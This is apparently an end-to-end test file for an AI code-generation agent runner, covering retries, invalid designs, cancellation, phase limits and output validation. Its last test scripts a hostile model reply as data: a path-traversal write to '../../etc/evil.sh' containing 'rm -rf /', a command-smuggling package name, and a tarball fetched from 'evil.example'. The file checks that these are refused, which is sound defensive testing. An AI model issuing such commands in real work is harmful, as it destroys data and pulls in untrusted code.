import {
  createScriptedLlmServer,
  type ScriptedLlmServer,
  type ScriptedReply,
} from '@forge/scripted-llm';
import { type TestDatabase, useTestDatabase } from '../../../../test/support/test-database';
import {
  agentRow,
  createProject,
  type RunnerTestApp,
  savedFiles,
  startRunnerTestApp,
  waitForEvent,
  withScriptedRunner,
} from '../testing/runner-test-app';
import { designAnswer, scofAnswer } from '../testing/scripted-answers';

const APP = {
  'src/App.tsx': 'export default function App() {\n  return <h1>Hello</h1>;\n}\n',
  'src/util.ts': '\n  export const x = 1;\n\n',
};

/** One runner per test, against an LLM that answers `replies` in order. */
async function withRunner(
  db: TestDatabase,
  replies: ScriptedReply[],
  test: (runner: RunnerTestApp, llm: ScriptedLlmServer, projectId: string) => Promise<void>,
) {
  await withScriptedRunner(db, { replies, chunkSize: 16 }, test);
}

describe('agent faults (e2e)', () => {
  const db = useTestDatabase();

  it('retries after a 500 and after a stream dropped mid-way, and completes', async () => {
    await withRunner(
      db,
      [
        { fault: 'http', status: 500 },
        designAnswer(Object.keys(APP)),
        { fault: 'drop', afterChunks: 4, text: scofAnswer(APP) },
        scofAnswer(APP),
      ],
      async (runner, llm, projectId) => {
        await runner.supervisor.generate(projectId, 'A hello app');
        await waitForEvent(runner.events, projectId, 'generation_complete');
        expect(llm.requests.map((r) => r.outcome)).toEqual([
          'http-error',
          'completed',
          'dropped',
          'completed',
        ]);
        expect(await savedFiles(db, projectId)).toEqual(APP);
        const logs = runner.events.filter((e) => e.projectId === projectId && e.type === 'log');
        expect(
          logs.some(
            (e) => e.type === 'log' && /asking for the rest of the phase again/.test(e.text),
          ),
        ).toBe(true);
      },
    );
  });

  it('feeds an invalid design back and uses the valid answer that follows', async () => {
    await withRunner(
      db,
      [
        'Sure! Here is my plan: make an app.',
        '{"name": "x"}',
        designAnswer(Object.keys(APP)),
        scofAnswer(APP),
      ],
      async (runner, llm, projectId) => {
        await runner.supervisor.generate(projectId, 'A hello app');
        await waitForEvent(runner.events, projectId, 'generation_complete');
        const third = llm.requests[2]!.messages.map((m) => String(m.content)).join('\n');
        expect(third).toContain('That answer cannot be used');
        expect(await savedFiles(db, projectId)).toEqual(APP);
      },
    );
  });

  it('fails the generation with DESIGN_INVALID after LLM_DESIGN_MAX_ATTEMPTS invalid designs', async () => {
    await withRunner(db, ['nope', 'still nope', 'never'], async (runner, _llm, projectId) => {
      await runner.supervisor.generate(projectId, 'A hello app');
      const error = await waitForEvent(runner.events, projectId, 'error', (e) => e.fatal);
      expect(error).toMatchObject({
        code: 'DESIGN_INVALID',
        message: expect.stringContaining('LLM_DESIGN_MAX_ATTEMPTS'),
      });
      await runner.supervisor.settled(projectId);
      expect(await agentRow(db, projectId)).toMatchObject({
        state: 'IDLE',
        error: { code: 'DESIGN_INVALID' },
      });
    });
  });

  it('cancels in the middle of a file, keeping only closed files', async () => {
    const big = Array.from({ length: 400 }, (_, i) => `export const line${i} = ${i};\n`).join('');
    await withRunner(
      db,
      [
        designAnswer(['src/App.tsx', 'src/big.ts']),
        {
          text: scofAnswer({ 'src/App.tsx': APP['src/App.tsx'], 'src/big.ts': big }),
          chunkSize: 20,
          chunksPerSecond: 50,
        },
      ],
      async (runner, _llm, projectId) => {
        await runner.supervisor.generate(projectId, 'A hello app');
        await waitForEvent(runner.events, projectId, 'file_chunk', (e) => e.path === 'src/big.ts');
        await runner.supervisor.cancel(projectId);
        expect(await agentRow(db, projectId)).toMatchObject({ state: 'IDLE', error: null });
        expect(await savedFiles(db, projectId)).toEqual({ 'src/App.tsx': APP['src/App.tsx'] });
        const states = runner.events.filter(
          (e) => e.projectId === projectId && e.type === 'state_change',
        );
        expect(states.at(-1)).toMatchObject({ state: 'IDLE', previous: 'IMPLEMENTING_PHASE' });
      },
    );
  });

  it('ends the plan at AGENT_MAX_PHASES even when the model wants more', async () => {
    const llm = await createScriptedLlmServer({
      replies: [
        designAnswer(['src/App.tsx'], { lastPhase: false }),
        scofAnswer({ 'src/App.tsx': APP['src/App.tsx'] }),
      ],
    });
    const runner = await startRunnerTestApp(db, llm.url, { AGENT_MAX_PHASES: '1' });
    try {
      const projectId = await createProject(db);
      await runner.supervisor.generate(projectId, 'A hello app');
      const complete = await waitForEvent(runner.events, projectId, 'generation_complete');
      expect(complete.phases).toBe(1);
      const messages = runner.events.flatMap((e) =>
        e.projectId === projectId && e.type === 'message' ? [e.content] : [],
      );
      expect(messages.some((m) => m.includes('AGENT_MAX_PHASES (1)'))).toBe(true);
    } finally {
      await runner.close();
      await llm.close();
    }
  });

  it('refuses a path traversal, a bad package and an unclosed block, and keeps the rest', async () => {
    const answer = [
      "cat > ../../etc/evil.sh << 'EOF'",
      'rm -rf /',
      'EOF',
      'bun add left-pad "rm;-rf" https://evil.example/x.tgz',
      scofAnswer({ 'src/App.tsx': APP['src/App.tsx'] }),
      "cat > src/unfinished.ts << 'EOF'",
      'export const half =',
    ].join('\n');
    await withRunner(
      db,
      [designAnswer(['src/App.tsx']), answer],
      async (runner, _llm, projectId) => {
        await runner.supervisor.generate(projectId, 'A hello app');
        await waitForEvent(runner.events, projectId, 'generation_complete');
        const problems = runner.events.flatMap((e) =>
          e.projectId === projectId && e.type === 'error' ? [`${e.code}${e.fatal ? '!' : ''}`] : [],
        );
        expect(problems).toEqual(
          expect.arrayContaining(['SCOF_INVALID_PATH', 'SCOF_INVALID_PACKAGE', 'FILE_TRUNCATED']),
        );
        expect(problems.some((p) => p.endsWith('!'))).toBe(false);
        expect(await savedFiles(db, projectId)).toEqual({ 'src/App.tsx': APP['src/App.tsx'] });
        const installed = await waitForEvent(runner.events, projectId, 'deps_installed');
        expect(installed.packages).toEqual(['left-pad']);
      },
    );
  });
});
